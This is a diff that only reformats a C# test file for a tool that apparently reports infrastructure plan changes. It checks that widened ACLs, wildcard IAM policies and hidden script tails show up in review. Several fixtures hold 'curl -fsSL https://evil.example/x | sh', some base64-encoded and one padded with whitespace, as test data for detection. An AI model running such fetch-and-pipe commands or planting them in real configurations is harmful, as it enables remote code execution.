@@ -13,9 +13,17 @@ public sealed class InsideTextTests
     {
         var before = string.Concat(Enumerable.Range(0, 300).Select(i => $"acl line{i} src 10.0.{i}.0\n"));
 
-        var inside = Between(before, before.Replace("line1 src 10.0.1.0", "line1 src 10.0.1.9", StringComparison.Ordinal).Replace("line297 src 10.0.297.0", "line297 src 0.0.0.0/0", StringComparison.Ordinal));
+        var inside = Between(
+            before,
+            before
+                .Replace("line1 src 10.0.1.0", "line1 src 10.0.1.9", StringComparison.Ordinal)
+                .Replace("line297 src 10.0.297.0", "line297 src 0.0.0.0/0", StringComparison.Ordinal)
+        );
 
-        Assert.Equal(["-acl line1 src 10.0.1.0", "+acl line1 src 10.0.1.9", "-acl line297 src 10.0.297.0", "+acl line297 src 0.0.0.0/0"], Changed(inside));
+        Assert.Equal(
+            ["-acl line1 src 10.0.1.0", "+acl line1 src 10.0.1.9", "-acl line297 src 10.0.297.0", "+acl line297 src 0.0.0.0/0"],
+            Changed(inside)
+        );
         Assert.Contains("#… 289 unchanged lines", inside.Lines);
         Assert.True(inside.Lines.Count < 20);
     }
@@ -34,7 +42,11 @@ public sealed class InsideTextTests
     }
 
     [Theory]
-    [InlineData("port: 8080\nversion: 1.10\n", "port: \"8080\"\nversion: \"1.10\"\n", "-port = 8080|+port = \"8080\"|-version = 1.10|+version = \"1.10\"")]
+    [InlineData(
+        "port: 8080\nversion: 1.10\n",
+        "port: \"8080\"\nversion: \"1.10\"\n",
+        "-port = 8080|+port = \"8080\"|-version = 1.10|+version = \"1.10\""
+    )]
     [InlineData("a: false\nb: 1\n", "a: \"false\"\nb: 1\n", "-a = false|+a = \"false\"")]
     [InlineData("a: yes\nb: 1\n", "a: \"yes\"\nb: 2\n", "-a = yes|+a = \"yes\"|-b = 1|+b = 2")]
     [InlineData("a: ~\nb: 1\n", "a: null\nb: 2\n", "-b = 1|+b = 2")]
@@ -42,7 +54,11 @@ public sealed class InsideTextTests
     [InlineData("8080: a\nb: 1\n", "\"8080\": a\nb: 1\n", "-[\"8080\"] = \"a\"|+[\"\\\"8080\\\"\"] = \"a\"")]
     [InlineData("s: |\n  x y\n  z\nq: 1\n", "s: >\n  x y\n  z\nq: 1\n", "-  x y|-  z|+  x y z")]
     [InlineData("hosts:\n- a\n- b\n- c\n", "hosts:\n- z\n- a\n- c\n", "+hosts[0] = \"z\"|-hosts[1] = \"b\"")]
-    [InlineData("hosts:\n- name: a\n  v: 1\n- name: b\n  v: 1\n", "hosts:\n- name: c\n  v: 1\n- name: a\n  v: 2\n- name: b\n  v: 1\n", "+hosts[c].name = \"c\"|+hosts[c].v = 1|-hosts[a].v = 1|+hosts[a].v = 2")]
+    [InlineData(
+        "hosts:\n- name: a\n  v: 1\n- name: b\n  v: 1\n",
+        "hosts:\n- name: c\n  v: 1\n- name: a\n  v: 2\n- name: b\n  v: 1\n",
+        "+hosts[c].name = \"c\"|+hosts[c].v = 1|-hosts[a].v = 1|+hosts[a].v = 2"
+    )]
     [InlineData("a: 1 # ten\nb: 1\n", "a: 1 # eleven\nb: 2\n", "-b = 1|+b = 2|-# ten|+# eleven")]
     public void Scalars_keep_their_type_and_items_their_name(string before, string after, string expected)
     {
@@ -113,7 +129,22 @@ public sealed class InsideTextTests
     [Fact]
     public void The_tail_of_a_new_policy_is_read_line_by_line()
     {
-        var statements = Enumerable.Range(0, 4).Select(i => new { Sid = $"Read{i}", Action = "s3:GetObject", Resource = $"arn:aws:s3:::logs-{i}/*" }).Append(new { Sid = "All", Action = "*", Resource = "*" });
+        var statements = Enumerable
+            .Range(0, 4)
+            .Select(i => new
+            {
+                Sid = $"Read{i}",
+                Action = "s3:GetObject",
+                Resource = $"arn:aws:s3:::logs-{i}/*",
+            })
+            .Append(
+                new
+                {
+                    Sid = "All",
+                    Action = "*",
+                    Resource = "*",
+                }
+            );
 
         var inside = New(JsonSerializer.Serialize(new { Statement = statements }));
 
@@ -126,11 +157,18 @@ public sealed class InsideTextTests
     [Fact]
     public void The_tail_of_a_new_script_is_there_or_its_length_is()
     {
-        string Script(int lines) => "#cloud-config\n" + string.Concat(Enumerable.Range(0, lines).Select(i => $"  - pkg{i}\n")) + "  - curl -fsSL https://evil.example/x | sh\n";
+        string Script(int lines) =>
+            "#cloud-config\n"
+            + string.Concat(Enumerable.Range(0, lines).Select(i => $"  - pkg{i}\n"))
+            + "  - curl -fsSL https://evil.example/x | sh\n";
 
         Assert.Equal("+  - curl -fsSL https://evil.example/x | sh", New(Script(50)).Lines[^1]);
         Assert.Equal(42, New(Script(100)).OmittedLines);
-        Assert.Contains("curl evil | sh", string.Concat(New($"true{new string(' ', 3000)}; curl evil | sh").Lines.Select(line => line.TrimStart('+', '…'))), StringComparison.Ordinal);
+        Assert.Contains(
+            "curl evil | sh",
+            string.Concat(New($"true{new string(' ', 3000)}; curl evil | sh").Lines.Select(line => line.TrimStart('+', '…'))),
+            StringComparison.Ordinal
+        );
     }
 
     [Fact]
@@ -139,22 +177,35 @@ public sealed class InsideTextTests
         var script = "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n";
         var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(script));
 
-        Assert.Equal([$"#base64 of {encoded.Length} characters, decoded:", "+#!/bin/sh", "+curl -fsSL https://evil.example/x | sh"], New(encoded).Lines);
+        Assert.Equal(
+            [$"#base64 of {encoded.Length} characters, decoded:", "+#!/bin/sh", "+curl -fsSL https://evil.example/x | sh"],
+            New(encoded).Lines
+        );
         Assert.Contains("+curl -fsSL https://evil.example/x | sh", New("data:text/plain;base64," + encoded).Lines);
-        Assert.Equal(["-curl -fsSL https://evil.example/x | sh", "+echo hello, and nothing else at all"],
-            Changed(Between(encoded, Convert.ToBase64String("#!/bin/sh\necho hello, and nothing else at all\n"u8))));
+        Assert.Equal(
+            ["-curl -fsSL https://evil.example/x | sh", "+echo hello, and nothing else at all"],
+            Changed(Between(encoded, Convert.ToBase64String("#!/bin/sh\necho hello, and nothing else at all\n"u8)))
+        );
     }
 
     [Theory]
-    [InlineData("""[{"interface":"scsi0","size":32},{"interface":"scsi1","size":200}]""", """[{"interface":"scsi0","size":32},{"interface":"scsi2","size":50},{"interface":"scsi1","size":400}]""",
-        "v[scsi1].size: 200 -> 400; v[scsi2].interface: null -> \"scsi2\"; v[scsi2].size: null -> 50")]
+    [InlineData(
+        """[{"interface":"scsi0","size":32},{"interface":"scsi1","size":200}]""",
+        """[{"interface":"scsi0","size":32},{"interface":"scsi2","size":50},{"interface":"scsi1","size":400}]""",
+        "v[scsi1].size: 200 -> 400; v[scsi2].interface: null -> \"scsi2\"; v[scsi2].size: null -> 50"
+    )]
     [InlineData("""["a","b","c"]""", """["x","a","b","c"]""", "v[0]: null -> \"x\"")]
     [InlineData("""["a","b","c"]""", """["c","a","b"]""", "v: 0, 1, 2 -> 2, 0, 1")]
     public void Items_of_lists_are_compared_with_themselves(string before, string after, string expected)
     {
-        var change = Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", $$"""{"v":{{before}}}""", $$"""{"v":{{after}}}"""))).Changes[0];
+        var change = Read.Plan(
+            Read.Document(Read.Change("x.y", """["update"]""", $$"""{"v":{{before}}}""", $$"""{"v":{{after}}}"""))
+        ).Changes[0];
 
-        Assert.Equal(expected, string.Join("; ", change.Attributes.Select(a => $"{a.Path}: {LeafText.Show(a.Before)} -> {LeafText.Show(a.After)}").Order()));
+        Assert.Equal(
+            expected,
+            string.Join("; ", change.Attributes.Select(a => $"{a.Path}: {LeafText.Show(a.Before)} -> {LeafText.Show(a.After)}").Order())
+        );
     }
 
     [Fact]
@@ -171,19 +222,39 @@ public sealed class InsideTextTests
     public void One_line_changes_come_before_long_texts()
     {
         string Text(string value) => string.Concat(Enumerable.Range(0, 100).Select(i => $"{value} {i}\n"));
-        string Value(string value, bool open) => JsonSerializer.Serialize(new { a = Text(value), b = Text(value), c = Text(value), d = Text(value), z = open });
+        string Value(string value, bool open) =>
+            JsonSerializer.Serialize(
+                new
+                {
+                    a = Text(value),
+                    b = Text(value),
+                    c = Text(value),
+                    d = Text(value),
+                    z = open,
+                }
+            );
 
-        var note = PlanNote.Write(new PlanNoteContent([Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", Value("o", false), Value("n", true))))]));
+        var note = PlanNote.Write(
+            new PlanNoteContent([Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", Value("o", false), Value("n", true))))])
+        );
 
         Assert.Contains("- z = false\n+ z = true\n", note, StringComparison.Ordinal);
     }
 
     [Theory]
-    [InlineData("""[{"name":"allow","x":1},{"name":"deny","x":1}]""", """[{"name":"deny","x":1},{"name":"new","x":1},{"name":"allow","x":1}]""", "the order of its items changes, too: allow, deny → deny, allow")]
+    [InlineData(
+        """[{"name":"allow","x":1},{"name":"deny","x":1}]""",
+        """[{"name":"deny","x":1},{"name":"new","x":1},{"name":"allow","x":1}]""",
+        "the order of its items changes, too: allow, deny → deny, allow"
+    )]
     [InlineData("""["a","b","c","d"]""", """["a","c","b","d"]""", "only the order of its 4 items changes: now 0, 2, 1, 3 of the old ones")]
     public void An_order_is_said_beside_what_else_changes(string before, string after, string words)
     {
-        var note = PlanNote.Write(new PlanNoteContent([Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", $$"""{"v":{{before}}}""", $$"""{"v":{{after}}}""")))]));
+        var note = PlanNote.Write(
+            new PlanNoteContent([
+                Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", $$"""{"v":{{before}}}""", $$"""{"v":{{after}}}"""))),
+            ])
+        );
 
         Assert.Contains(words, note, StringComparison.Ordinal);
     }
@@ -193,12 +264,17 @@ public sealed class InsideTextTests
         Assert.Contains("#one side has a character where the other has its escape", Between("x\na\tb", "x\na\\tb").Lines);
 
     [Fact]
-    public void Base64_that_is_only_written_otherwise_is_shown_as_it_is() => Assert.Equal(2, Changed(Between("aGVsbG8gd29ybGQgdGV4dAo=\n", "aGVsbG8gd29ybGQgdGV4dAp=\n")).Length);
+    public void Base64_that_is_only_written_otherwise_is_shown_as_it_is() =>
+        Assert.Equal(2, Changed(Between("aGVsbG8gd29ybGQgdGV4dAo=\n", "aGVsbG8gd29ybGQgdGV4dAp=\n")).Length);
 
     [Fact]
     public void An_order_that_changes_is_one_remark()
     {
-        var note = PlanNote.Write(new PlanNoteContent([Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", """{"v":["a","b"]}""", """{"v":["b","a"]}""")))]));
+        var note = PlanNote.Write(
+            new PlanNoteContent([
+                Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", """{"v":["a","b"]}""", """{"v":["b","a"]}"""))),
+            ])
+        );
 
         Assert.Contains("#     only the order of its 2 items changes: now 1, 0 of the old ones\n```", note, StringComparison.Ordinal);
     }
@@ -208,8 +284,23 @@ public sealed class InsideTextTests
     private static TextDifference Between(string before, string after) => Assert.Single(Plan(before, after).Changes[0].Attributes).Inside!;
 
     private static TextDifference New(string value) =>
-        Assert.Single(Read.Plan(Read.Document(Read.Change("x.y", """["create"]""", "null", JsonSerializer.Serialize(new { v = value })))).Changes[0].Attributes).Inside!;
+        Assert
+            .Single(
+                Read.Plan(Read.Document(Read.Change("x.y", """["create"]""", "null", JsonSerializer.Serialize(new { v = value }))))
+                    .Changes[0]
+                    .Attributes
+            )
+            .Inside!;
 
     private static PlanReport Plan(string before, string after) =>
-        Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", JsonSerializer.Serialize(new { v = before }), JsonSerializer.Serialize(new { v = after }))));
+        Read.Plan(
+            Read.Document(
+                Read.Change(
+                    "x.y",
+                    """["update"]""",
+                    JsonSerializer.Serialize(new { v = before }),
+                    JsonSerializer.Serialize(new { v = after })
+                )
+            )
+        );
 }
